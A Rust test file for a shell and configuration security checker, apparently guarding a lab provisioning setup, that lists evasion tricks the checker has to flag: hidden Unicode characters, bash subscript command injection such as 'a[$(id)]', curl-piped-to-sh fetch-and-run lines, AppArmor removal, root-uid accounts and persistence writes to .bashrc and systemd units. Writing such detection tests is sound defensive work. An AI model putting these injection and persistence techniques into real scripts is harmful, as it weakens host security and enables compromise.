//! Ways round the rules that somebody found, or that Bash, apt, git, npm and Podman have and few know.

use super::super::found;
use super::{each_is_found, script};

#[test]
fn characters_that_hide_something_are_found_in_shell() {
    let hidden = "hidden-character";
    each_is_found(&[
        ("# \u{202e}desrever\nid", hidden),
        ("echo 'a\u{200b}b'", hidden),
        ("cat <<'E'\na\u{2066}b\nE", hidden),
        ("id\u{2028}", hidden),
        ("id\u{feff}", hidden),
        ("id \u{e0041}", hidden),
        ("echo a\u{a0}b", hidden),
    ]);
    for text in [
        "#cloud-config\nruncmd:\n  - \"id # \\u202e\"\n",
        "#cloud-config\nruncmd:\n  - [id, \"a\\u200bb\"]\n",
        "#cloud-config\nwrite_files:\n  - path: /run/podclaw/a.sh\n    content: \"#!/bin/bash\\nset -eu\\nid # \\u202e\\n\"\n",
        "#cloud-config\nwrite_files:\n  - path: /etc/podclaw/a.conf\n    content: \"a=b # \\u202e\\n\"\n",
    ] {
        assert_eq!(found("user-data.yaml", text), ["yaml-hidden"], "{text}");
    }
}

#[test]
fn characters_that_hide_something_are_found_in_other_files() {
    for (name, text, rule) in [
        ("a.container", "[Container]\n# \u{202e}x\nImage=a\n", "quadlet-syntax"),
        ("apparmor/crun", "abi <abi/4.0>,\n# \u{202e}x\n", "apparmor-rule"),
        ("openclaw.json", "{\"a\": \"\u{202e}x\"}", "json-syntax"),
        ("podclaw.yaml", "version: 1 # \u{202e}x\n", "yaml-hidden"),
        ("user-data.yaml.j2", "#cloud-config\n# \u{202e}x\n{}\n", "yaml-hidden"),
        ("user-data.yaml.j2", "#cloud-config\n{# \u{202e}x #}\n{}\n", "hidden-character"),
        ("a/journald.conf", "[Journal]\n# \u{202e}x\n", "hidden-character"),
        ("a/journald.conf", "[Journal]\n# \u{85}Storage=none\n", "hidden-character"),
        ("a/journald.conf", "[Journal]\n# x\rStorage=none\n", "hidden-character"),
    ] {
        let rules = found(name, text);
        assert!(rules.iter().any(|found| found == rule), "{name}: {rules:?}");
    }
}

#[test]
fn packages_are_named_and_their_verbs_are_known() {
    let install = "shell-unpinned-package";
    let hardening = "shell-hardening";
    each_is_found(&[
        ("apt-get frobnicate podman", install),
        ("apt edit-sources", install),
        ("apt-get source podman", install),
        ("apt-get satisfy 'podman (>= 1)'", install),
        ("aptitude frobnicate", install),
        ("apt-get \"$(cat /etc/podclaw/verb)\" podman", install),
        ("apt-get install 'linux-*'", install),
        ("apt-get install 'podma?'", install),
        ("apt-get install '^podman$'", install),
        ("apt-get install 'server^'", install),
        ("apt-get install apparmor-", hardening),
        ("apt-get install podman uidmap-", install),
        ("apt-get install \"$(cat /etc/podclaw/packages)\"", install),
        ("apt-get install -- \"$x\"", install),
        ("apt-get purge apparmor", hardening),
        ("apt-get -y remove --purge apparmor", hardening),
        ("apt remove libapparmor1", hardening),
        ("apt-get autoremove apparmor", hardening),
        ("apt-get remove 'app*'", install),
        ("apt-get purge nftables", hardening),
        ("dpkg -r apparmor", hardening),
        ("dpkg -P apparmor", hardening),
        ("dpkg --purge apparmor", hardening),
        ("dpkg --remove apparmor-utils", hardening),
        ("dpkg --purge podman", "shell-option"),
        ("npm install a/b@1.2.3", install),
        ("npm install ./a@1.2.3", install),
        ("npm install ../a@1.2.3", install),
        ("npm install /tmp/a@1.2.3", install),
        ("npm install github:a/b@1.2.3", install),
        ("npm install 'a@npm:b@1.2.3'", install),
        ("npm install https://a.example/x@1.2.3", install),
        ("npm install ./a-1.2.3.tgz", install),
        ("npm install a@1.2", install),
        ("npm install a@1.x.3", install),
        ("npm install 'a@>1.2.3'", install),
        ("npm install 'a@1.2.3 || 2.0.0'", install),
        ("npm install @a/b/c@1.2.3", install),
        ("npm config set script-shell /tmp/x", install),
        ("pip install a==1.0 --index-url=https://a.example", "shell-option"),
        ("pip install a==1.0 -rx.txt", install),
        ("pip install a==1.0 --requirement=x.txt", install),
    ]);
}

#[test]
fn fetched_repositories_are_pinned_each() {
    let clone = "shell-unpinned-clone";
    each_is_found(&[
        (
            "git init /opt/openclaw\ngit -C /opt/openclaw fetch https://a.example/r\ngit -C /opt/openclaw checkout FETCH_HEAD",
            clone,
        ),
        ("git -C /opt/openclaw fetch https://a.example/r", clone),
        ("git -C /opt/openclaw fetch origin main", clone),
        ("git clone https://a.example/r /opt/openclaw\ngit -C /opt/openclaw checkout main", clone),
        ("git clone -b v1.2.3 https://a.example/r /opt/openclaw\ngit -C /opt/openclaw checkout origin/main", clone),
        ("git clone -b v1.2.3 https://a.example/r /opt/openclaw\ngit -C /opt/openclaw reset --hard origin/main", clone),
        // What is checked out in one says nothing of the other.
        (
            "git clone https://a.example/r /opt/openclaw/a\ngit clone https://a.example/s /opt/openclaw/b\ngit -C /opt/openclaw/b checkout 0123456789abcdef0123456789abcdef01234567",
            clone,
        ),
        // Nor does what was checked out before.
        (
            "git -C /opt/openclaw checkout 0123456789abcdef0123456789abcdef01234567\ngit clone https://a.example/r /opt/openclaw",
            clone,
        ),
        (
            "git clone https://a.example/r /opt/openclaw\ngit -C /opt/openclaw checkout 0123456789abcdef0123456789abcdef01234567\ngit -C /opt/openclaw checkout main",
            clone,
        ),
        ("git clone -b v1.2.3 --template=/tmp/x https://a.example/r", "shell-option"),
        ("echo x >/opt/openclaw/.git/hooks/post-checkout", "shell-write"),
        ("echo x >>/opt/openclaw/.git/config", "shell-write"),
        ("git init --template=/tmp/x /opt/openclaw", "shell-option"),
    ]);
    for fine in [
        "git clone https://a.example/r /opt/openclaw\ncd /opt/openclaw\ngit checkout --quiet 0123456789abcdef0123456789abcdef01234567",
        "cd /opt/openclaw\ngit clone https://a.example/r.git\ncd r\ngit checkout v1.2.3",
        "git init /opt/openclaw\ngit -C /opt/openclaw fetch --depth 1 https://a.example/r 0123456789abcdef0123456789abcdef01234567\ngit -C /opt/openclaw checkout 0123456789abcdef0123456789abcdef01234567",
    ] {
        assert_eq!(script(fine), [""; 0], "{fine}");
    }
}

/// A digest of 64 digits.
const DIGEST: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

#[test]
fn each_download_is_checked_before_it_is_used() {
    let download = "shell-download";
    let get = |file: &str| format!("curl -fsSL -o {file} https://a.example/x\n");
    let check = |file: &str| format!("echo \"{DIGEST}  {file}\" | sha256sum --check --strict\n");
    let (a, b) = ("/var/lib/podclaw/a", "/var/lib/podclaw/b");
    let bad = [
        // One of two.
        format!("{}{}{}", get(a), get(b), check(b)),
        // The check comes first.
        format!("{}{}", check(a), get(a)),
        // It is got again.
        format!("{}{}{}", get(a), check(a), get(a)),
        // It is used before.
        format!("{}cp {a} /etc/podclaw/a\n{}", get(a), check(a)),
        // What it is compared with came along, or is not known.
        format!("{}{}cd /var/lib/podclaw; sha256sum --check b\n", get(a), get(b)),
        format!("{}cat /etc/podclaw/sums | sha256sum --check\n", get(a)),
        format!("{}echo \"$x  {a}\" | sha256sum --check\n", get(a)),
        format!("{}echo \"$(sha256sum {a})\" | sha256sum --check\n", get(a)),
        // It need not be there, or need not fit.
        format!("{}{}", get(a), check(a).replace("--strict", "--ignore-missing")),
        format!("{}{}", get(a), check(a).replace("--strict\n", "--strict || true\n")),
        format!("{}! {}", get(a), check(a)),
        format!("{}if {}then :; fi\n", get(a), check(a).replace('\n', "; ")),
        format!("{}{}", get(a), check(a).replace('\n', " &\n")),
        // Too short to be a digest.
        format!("{}echo \"00  {a}\" | sha256sum --check\n", get(a)),
        format!("{}echo \"{DIGEST}  {a}\" | md5sum --check\n", get(a)),
        // Nobody compares what is printed, whatever is compared elsewhere.
        format!("curl -fsSL https://a.example/x | tee {b} >/dev/null\n{}{}", get(a), check(a)),
        format!("curl -fsSL https://a.example/x >{a}\n"),
        "curl --config - https://127.0.0.1/ </etc/podclaw/c".into(),
        "curl -K- https://127.0.0.1/".into(),
        "curl -sK - http://127.0.0.1/".into(),
        "printf 'url=https://a.example\\n' | curl --conf - http://127.0.0.1/".into(),
    ];
    for body in &bad {
        assert!(script(body).iter().any(|rule| rule == download), "{body}: {:?}", script(body));
    }
    let fine = [
        format!("{}{}", get(a), check(a)),
        format!("{}{}{}{}", get(a), get(b), check(a), check(b)),
        format!("{}sha256sum --check <<E\n{DIGEST}  {a}\nE\n", get(a)),
        format!("{}sha256sum -c <<<'{DIGEST} *{a}'\n", get(a)),
        format!("{}{}", get(a), check(a).replace("--strict\n", "--strict || exit 1\n")),
        format!("curl -fsSL https://a.example/x >{a}\n{}", check(a)),
        format!("wget -q -O {a} https://a.example/x\n{}", check(a)),
        format!(
            "sum={DIGEST}\nget() {{ curl -o \"$1\" https://a.example/x; echo \"$2  $1\" | sha256sum -c; }}\nget {a} \"$sum\"\n"
        ),
    ];
    for body in &fine {
        assert_eq!(script(body), [""; 0], "{body}");
    }
}

#[test]
fn podman_s_options_are_judged_by_what_they_mean() {
    let container = "shell-container";
    let image = "shell-unpinned-image";
    each_is_found(&[
        ("podman run --user=00 localhost/a", container),
        ("podman run --user 0:1000 localhost/a", container),
        ("podman run -u +0 localhost/a", container),
        ("podman run --user \"$x\" localhost/a", container),
        ("u=0; if true; then u=1000; fi; podman run --user \"$u\" localhost/a", container),
        ("podman run --userns=keep-id:uid=0 localhost/a", container),
        ("podman run --userns keep-id:uid=1000,gid=0 localhost/a", container),
        ("podman run --userns keep-identity localhost/a", container),
        ("podman run --pids-limit=-1 localhost/a", container),
        ("podman run --pids-limit 0 localhost/a", container),
        ("podman run --pids-limit 99999999 localhost/a", container),
        ("podman run --memory=0 localhost/a", container),
        ("podman run --memory-swap=-1 localhost/a", container),
        ("podman run --cgroups=disabled localhost/a", container),
        ("podman run --cpus=0 localhost/a", container),
        ("podman run --log-driver=passthrough localhost/a", container),
        ("podman run --read-only=0 localhost/a", container),
        ("podman run --tmpfs /x:exec localhost/a", container),
        ("podman run --label io.containers.autoupdate=registry localhost/a", container),
        ("podman run -e OPENCLAW_GATEWAY_TOKEN=x localhost/a", container),
        ("podman run --ulimit host localhost/a", container),
        ("podman secret create a /etc/podclaw/a", container),
        ("podman secret inspect --showsecret a", container),
        ("podman unshare sh -c 'chown 5:5 /var/lib/podclaw/x'", container),
        ("podman unshare rm -rf /var/lib/podclaw/x", container),
        ("podman unshare bash", container),
        ("podman container run --privileged localhost/a", container),
        ("podman pull localhost/../x", image),
        ("podman run localhost/../x", image),
        ("podman run localhost//x", image),
        ("podman pull localhost/", image),
        ("podman run \"localhost/$x\"", image),
        ("podman load -i https://a.example/x.tar", image),
        ("podman load --input=https://a.example/x.tar", image),
        ("podman image load -i http://a.example/x.tar", image),
        ("podman pull --all-tags localhost/x", container),
        ("podman start --attach --detach-keys=x a", container),
    ]);
    for fine in
        ["podman unshare true", "podman secret ls", "podman run --user 1000 --userns keep-id:uid=1000 localhost/a:1"]
    {
        assert_eq!(script(fine), [""; 0], "{fine}");
    }
}

#[test]
fn sums_that_run_code_are_found() {
    let dynamic = "shell-dynamic";
    let run = "shell-fetch-and-run";
    each_is_found(&[
        ("test -v 'a[$(id)]'", dynamic),
        ("test ! -v 'a[$(id)]'", dynamic),
        ("[ -v 'a[`id`]' ]", dynamic),
        ("[ -n x -a -v 'a[$(id)]' ]", dynamic),
        ("[[ -v 'a[$(id)]' ]]", dynamic),
        ("x='a[$(id)]'; [[ -v $x ]]", dynamic),
        ("[[ -R 'a[$(id)]' ]]", dynamic),
        ("test -v \"$(cat /etc/podclaw/x)\"", dynamic),
        ("let 'a[$(id)]'", dynamic),
        ("let 'x=a[$(id)]'", dynamic),
        ("x='a[$(id)]'; let \"$x\"", dynamic),
        ("let \"$(cat /etc/podclaw/x)\"", dynamic),
        ("(( a[$(curl https://a.example/x | sh)] ))", run),
        ("(( a['$(curl https://a.example/x | sh)'] ))", dynamic),
        ("(( a[\\$(id)] ))", dynamic),
        ("x='a[$(id)]'; (( x ))", dynamic),
        ("x='a[$(id)]'; (( $x ))", dynamic),
        ("x='a[$(id)]'; (( \"$x\" > 1 ))", dynamic),
        ("x='a[$(id)]'; y=x; (( y ))", dynamic),
        ("x='a[$(id)]'; echo $((x + 1))", dynamic),
        ("x='a[$(id)]'; echo $[x]", dynamic),
        ("x='a[$(id)]'; [[ x -gt 1 ]]", dynamic),
        ("x='a[$(id)]'; [[ $x -eq 1 ]]", dynamic),
        ("x='a[$(id)]'; [[ 1 -le $x ]]", dynamic),
        ("x='a[$(id)]'; for ((i = x; i < 1; i++)); do :; done", dynamic),
        ("x='a[$(id)]'; echo ${b[x]}", dynamic),
        ("x='a[$(id)]'; echo ${HOME:x}", dynamic),
        ("x='a[$(id)]'; echo ${HOME:0:x}", dynamic),
        ("x='a[$(id)]'; b[x]=1", dynamic),
        ("declare -i n='a[$(id)]'", dynamic),
        ("f() { local -i n=$1; }; f 'a[$(id)]'", dynamic),
        ("x=$(curl https://a.example/x); (( x ))", run),
        ("f() { (( $1 )); }; f 'a[$(id)]'", dynamic),
        ("printf -v 'a[$(id)]' x", dynamic),
        ("printf -v\"a[\\$(id)]\" x", dynamic),
        ("printf -v \"$(cat /etc/podclaw/x)\" x", dynamic),
        ("read -r 'a[$(id)]' </etc/hosts", dynamic),
        ("read -ra 'a[$(id)]' </etc/hosts", dynamic),
        ("read -r \"$(cat /etc/podclaw/x)\" </etc/hosts", dynamic),
        ("mapfile 'a[$(id)]' </etc/hosts", dynamic),
        ("unset 'a[$(id)]'", dynamic),
        ("unset -v \"$(cat /etc/podclaw/x)\"", dynamic),
        ("declare 'a[$(id)]=1'", dynamic),
        ("export \"$(cat /etc/podclaw/x)=1\"", dynamic),
        ("getopts ab 'a[$(id)]'", dynamic),
        ("wait -n -p 'a[$(id)]'", dynamic),
        ("declare -n r=PATH", dynamic),
        ("f() { local -n r=$1; }; f PATH", dynamic),
        ("typeset -n r", dynamic),
        ("declare -gn r=x", dynamic),
        ("x='a[$(id)]'; echo \"${!x}\"", dynamic),
        ("x=$(cat /etc/podclaw/x); echo \"${!x}\"", dynamic),
        ("f() { echo \"${!1}\"; }; f 'a[$(id)]'", dynamic),
        ("echo ${!1}", dynamic),
        ("x=c; c=curl; ${!x} https://a.example/x | sh", run),
    ]);
    for fine in [
        "x=1; (( x + 1 > 2 )) || (( x <<= 1 ))",
        "a=(1 2); i=1; echo \"${a[i]}\" \"${a[i - 1]}\" \"${a[$i]}\" \"${#a[@]}\"",
        "declare -A m; k=b; m[$k]=1; [[ -v m[b] ]]",
        "for name in HOME LANG; do echo \"${!name}\"; done",
        "read -r a b _ </etc/hosts; printf -v c %s x; unset a",
        "f() { local -r n=$1; (( n > 1 )); }; f 5",
    ] {
        assert_eq!(script(fine), [""; 0], "{fine}");
    }
}

#[test]
fn only_profiles_that_are_judged_are_loaded() {
    let hardening = "shell-hardening";
    each_is_found(&[
        ("apparmor_parser -r /tmp/x", hardening),
        ("apparmor_parser -r /etc/apparmor.d/../../tmp/x", hardening),
        ("apparmor_parser -r \"/etc/apparmor.d/$x\"", hardening),
        ("apparmor_parser -r \"$x\"", hardening),
        ("cd /tmp; apparmor_parser -r x", hardening),
        ("apparmor_parser -r", hardening),
        ("apparmor_parser -r /etc/apparmor.d/podclaw-x </tmp/x /tmp/x", hardening),
        ("apparmor_parser -r /run/podclaw/x", hardening),
        ("apparmor_parser --replace /home/openclaw/x", hardening),
        ("apparmor_parser --remove /etc/apparmor.d/x", hardening),
        ("apparmor_parser -rR /etc/apparmor.d/x", hardening),
        ("/usr/sbin/aa-complain podman", hardening),
        ("aa-disable podman", hardening),
        ("aa-enforce /tmp/x", hardening),
        ("aa-enforce -d /tmp podman", hardening),
    ]);
    assert_eq!(script("apparmor_parser -r -W /etc/apparmor.d/podclaw-crun"), [""; 0]);
}

#[test]
fn services_and_users_are_the_lab_s() {
    let persistence = "shell-persistence";
    let account = "shell-account";
    let privilege = "shell-privilege";
    each_is_found(&[
        ("service ssh start", persistence),
        ("service ssh restart", persistence),
        ("service cron force-reload", persistence),
        ("service --full-restart ssh", persistence),
        ("service apparmor stop", "shell-hardening"),
        ("systemctl start ssh", persistence),
        ("systemctl restart cron.service", persistence),
        ("systemctl try-restart 'ssh*'", persistence),
        ("systemctl reload ssh", persistence),
        ("systemctl unmask ssh", persistence),
        ("systemctl start \"$x\"", persistence),
        ("systemctl start openclaw.service ssh", persistence),
        ("systemctl start 'openclaw*'", persistence),
        ("systemctl enable ssh", persistence),
        ("systemctl link /run/podclaw/x.service", persistence),
        ("systemctl edit openclaw", persistence),
        ("systemctl set-property openclaw.service CPUQuota=", persistence),
        ("systemctl set-environment A=b", persistence),
        ("systemctl import-environment LD_PRELOAD", persistence),
        ("systemctl isolate rescue.target", persistence),
        ("systemctl --user start x.service", persistence),
        ("systemctl stop 'app*'", "shell-hardening"),
        ("systemctl stop \"$x\"", "shell-hardening"),
        ("systemctl mask --now APPARMOR.service", "shell-hardening"),
        ("systemctl stop '*'", "shell-hardening"),
        ("useradd -m -s /usr/sbin/nologin -g 0 x", privilege),
        ("useradd -m -s /usr/sbin/nologin -g root x", privilege),
        ("useradd -m -s /usr/sbin/nologin --gid=0 x", privilege),
        ("useradd -m -s /usr/sbin/nologin -g00 x", privilege),
        ("useradd -m -s /usr/sbin/nologin -G 27 x", privilege),
        ("useradd -m -s /usr/sbin/nologin -g sudo x", privilege),
        ("useradd -m -s /usr/sbin/nologin -d /root x", account),
        ("useradd -m -s /usr/sbin/nologin --home-dir=/ x", account),
        ("useradd -m -s /usr/sbin/nologin -d /home/../root x", account),
        ("useradd -m -s /usr/sbin/nologin -d /etc/podclaw x", account),
        ("useradd -m -s /usr/sbin/nologin -o -u 0 x", account),
        ("useradd -m -s /usr/sbin/nologin -u +0 x", account),
        ("useradd -m -s /usr/sbin/nologin -u 0x0 x", account),
        ("useradd -m -s /usr/sbin/nologin -u \"$x\" x", account),
        ("usermod -aG sudo x", privilege),
        ("usermod -g 0 x", privilege),
        ("usermod -d /root x", "shell-option"),
        ("adduser --disabled-password --shell /usr/sbin/nologin --gid 0 x", privilege),
        ("adduser --disabled-password --shell /usr/sbin/nologin --ingroup root x", privilege),
        ("adduser --disabled-password --shell /usr/sbin/nologin --home /root x", account),
        ("adduser --disabled-password --shell /usr/sbin/nologin --uid 0 x", account),
        ("groupadd -g 0 -o x", "shell-option"),
        ("groupmod -n sudo x", privilege),
        ("groupadd docker", privilege),
    ]);
    for fine in [
        "systemctl restart systemd-journald.service",
        "service --status-all",
        "service cron status",
        "useradd -m -d /home/openclaw -s /usr/sbin/nologin -u 1000 -g openclaw openclaw",
    ] {
        assert_eq!(script(fine), [""; 0], "{fine}");
    }
}

#[test]
fn what_is_not_known_of_a_path_can_lead_out() {
    let write = "shell-write";
    each_is_found(&[
        ("rm -rf \"/var/lib/podclaw/$x\"", write),
        ("echo x >\"/etc/podclaw/$x\"", write),
        ("echo x >\"/etc/podclaw/$(cat /etc/podclaw/x)\"", write),
        ("echo x >\"/etc/podclaw/a$x\"", write),
        ("echo x >\"/etc/podclaw/$x/../../a\"", write),
        ("x=$(curl https://a.example/x); cp /tmp/a \"/run/podclaw/$x\"", write),
        ("read -r x </etc/hosts; mkdir -p \"/tmp/$x\"", write),
        ("f() { rm -rf \"/var/lib/podclaw/$1\"; }; f ../../../etc/x", write),
        ("f() { rm -rf \"/var/lib/podclaw/$1\"; }; f \"$x\"", write),
        ("f() { echo x >\"/etc/podclaw/$1\"; }; f ../ssh/sshd_config", "shell-ssh"),
        ("rm -rf \"/var/log/$x\"", "shell-write"),
        ("find \"/var/lib/podclaw/$x\" -delete", write),
        ("cd \"/run/podclaw/$x\"", write),
        ("echo x >/home/openclaw/.config/systemd/user/a.service", "shell-persistence"),
        ("ln -s /tmp/x /home/openclaw/.config/systemd/user/default.target.wants/a.service", "shell-persistence"),
        ("echo x >/home/openclaw/.profile", "shell-persistence"),
        ("echo x >>/home/openclaw/.bashrc", "shell-persistence"),
        ("echo x >/home/openclaw/.config/containers/systemd/a.container", "shell-persistence"),
        ("echo x >/home/openclaw/.config/containers/containers.conf", "shell-persistence"),
        ("echo x >/home/openclaw/.config/environment.d/a.conf", "shell-persistence"),
        ("echo x >/home/openclaw/.npmrc", "shell-persistence"),
        ("echo x >/etc/containers/systemd/users/a.container", "shell-persistence"),
        ("echo x >/etc/containers/systemd/users/1000/openclaw.container.d/a.conf", "shell-persistence"),
        ("echo x >/etc/containers/systemd/a.container", write),
        ("echo x >/run/user/1000/systemd/user/a.service", "shell-persistence"),
    ]);
    for fine in [
        "for f in /etc/podclaw/*; do rm -f \"$f.old\"; done",
        "x=a; rm -rf \"/var/lib/podclaw/$x\"",
        "rm -rf /var/lib/podclaw/*.tar",
        "echo x >\"/run/podclaw/$$\"",
        "echo x >\"/run/podclaw/$(( 1 + 2 ))\"",
    ] {
        assert_eq!(script(fine), [""; 0], "{fine}");
    }
}
